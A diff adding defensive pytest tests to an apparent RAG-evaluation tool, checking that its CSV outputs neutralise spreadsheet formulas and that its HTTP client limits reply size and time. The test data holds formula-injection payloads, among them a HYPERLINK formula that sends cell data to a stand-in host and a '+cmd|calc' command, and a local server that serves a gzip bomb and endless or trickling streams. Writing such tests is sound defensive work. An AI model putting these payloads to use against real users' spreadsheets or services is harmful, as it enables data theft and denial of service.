@@ -563,3 +563,90 @@ def test_claims_extracted_differently_are_counted_not_compared():
     b[2]['gt_answer_claims'] = [['sky', 'is', 'blue'], ['the grass', 'is', 'green']]   # another extractor's wording
     mv = claim_moves(compare(a, b))
     assert mv.attrs['unmatched'] == 1 and mv.query_id.tolist() == ['q0', 'q1']
+
+
+# Hostile round 3 (issue 40): each test is named test_<item>_... and has its item in the comment above it
+import csv
+
+FORMULA = ('=', '+', '@', '\t', '\r')
+
+def _cells(path:Path) -> list:
+    return [c for row in csv.reader(path.read_text(encoding='utf-8').splitlines()) for c in row]
+
+def _formula_free(path:Path):
+    "No cell a spreadsheet would run: text starting with = + @ tab CR, or '-' that is not a number."
+    for c in _cells(path):
+        assert not c.startswith(FORMULA), f"{path.name}: {c!r}"
+        if c.startswith('-'): float(c)   # a negative number is fine; '-2+3' as text is not
+
+def _checked_claim(qid, claim, hit):
+    return dict(query_id=qid, query=f'question {qid}', gt_answer='g', response='r',
+                retrieved_context=[{'doc_id': '=c0', 'text': 't'}], response_claims=[['r', 'is', 'x']],
+                gt_answer_claims=[claim, 'grass is green'], answer2response=[E], response2answer=[E if hit else N, N],
+                retrieved2response=[[E]], retrieved2answer=[[E if hit else N], [N]])
+
+# Issue 40, item 17 (hostile round 3): spreadsheet formulas in CSV outputs ---------------------------------------------
+def test_17_compare_csvs_neutralise_formula_cells(tmp_path):
+    claims = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+cmd|calc', '@SUM(A1:A9)', '-2+3']
+    save_results([_checked_claim(f'=q{i}', c, False) for i, c in enumerate(claims)], tmp_path/'=base.json')
+    save_results([_checked_claim(f'=q{i}', c, True) for i, c in enumerate(claims)], tmp_path/'@new.json')
+    assert main(['compare', str(tmp_path/'=base.json'), str(tmp_path/'@new.json'), '--out', str(tmp_path/'cmp')]) == 0
+    for name in ('table.csv', 'deltas.csv', 'claim_moves.csv'): _formula_free(tmp_path/'cmp'/name)
+    cells = _cells(tmp_path/'cmp'/'claim_moves.csv')
+    assert "'=q0" in cells and any(c.startswith("'=HYPERLINK") for c in cells) and "'-2+3" in cells
+    assert "'=base" in _cells(tmp_path/'cmp'/'table.csv')   # the system's name, as a column or index label
+
+# Issue 40, item 2 (hostile round 3): HTTP systems bounded in bytes and time -------------------------------------------
+class _Hostile:
+    "An HTTP 'RAG service' on 127.0.0.1: /bomb (gzip of 40 MB of spaces), /endless, /trickle (a byte every 0.3 s)."
+    def __init__(self):
+        import gzip, http.server, threading, time
+        bomb = gzip.compress(b'{"answer": "' + b' ' * (40 << 20) + b'", "contexts": []}', 9)
+        class H(http.server.BaseHTTPRequestHandler):
+            protocol_version = 'HTTP/1.1'
+            def log_message(self, *a): pass
+            def do_POST(self):
+                self.rfile.read(int(self.headers['Content-Length']))
+                if self.path == '/bomb':
+                    self.send_response(200); self.send_header('Content-Encoding', 'gzip')
+                    self.send_header('Content-Length', str(len(bomb))); self.end_headers(); self.wfile.write(bomb)
+                    return
+                self.send_response(200); self.send_header('Transfer-Encoding', 'chunked'); self.end_headers()
+                t0 = time.time()
+                try:
+                    for _ in range(4000 if self.path == '/endless' else 200):   # bounded: 4000 MB, or 60 s
+                        if time.time() - t0 > 60: break
+                        piece = b' ' * (1 << 20) if self.path == '/endless' else b' '
+                        self.wfile.write(b'%x\r\n%s\r\n' % (len(piece), piece)); self.wfile.flush()
+                        if self.path == '/trickle': time.sleep(0.3)
+                except OSError: pass   # the client hung up: what it should do
+        self.srv = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
+        self.srv.daemon_threads = True
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+        self.url = f'http://127.0.0.1:{self.srv.server_port}'
+
+@pytest.mark.parametrize('path, extra, says', [
+    ('/bomb', [], 'the reply is over 16,777,216 bytes (decompressed)'),
+    ('/endless', [], 'the reply is over 16,777,216 bytes (decompressed)'),
+    ('/trickle', ['--timeout', '2'], 'no answer within 2.0 s'),
+])
+def test_2_http_systems_are_bounded_in_bytes_and_time(tmp_path, capsys, path, extra, says):
+    import resource, time
+    svc = _Hostile()
+    (tmp_path/'qs.jsonl').write_text(json.dumps({'query_id': 'q1', 'question': 'Why?', 'answer': 'Because.'}) + '\n')
+    t0, rss0 = time.time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    try:
+        code = main(['run', str(tmp_path/'qs.jsonl'), '--system', svc.url + path, '--retries', '0',
+                     '--out', str(tmp_path/'answers.json'), *extra])
+    finally: svc.srv.shutdown()
+    err = capsys.readouterr().err
+    assert code == 1 and says in err and 'Traceback' not in err, err
+    assert time.time() - t0 < 30
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 < 200_000   # KB: no 40 MB+ reply held many times
+    failed = json.loads((tmp_path/'answers.json').read_text())
+    assert json.dumps(failed).count(says.split(' (')[0][:30]) >= 1   # the failure and its reason are in the file
+
+def test_2_the_defaults_are_shown_in_help(capsys):
+    with pytest.raises(SystemExit): main(['run', '--help'])
+    out = capsys.readouterr().out
+    assert 'default 300' in out and '16,777,216' in out
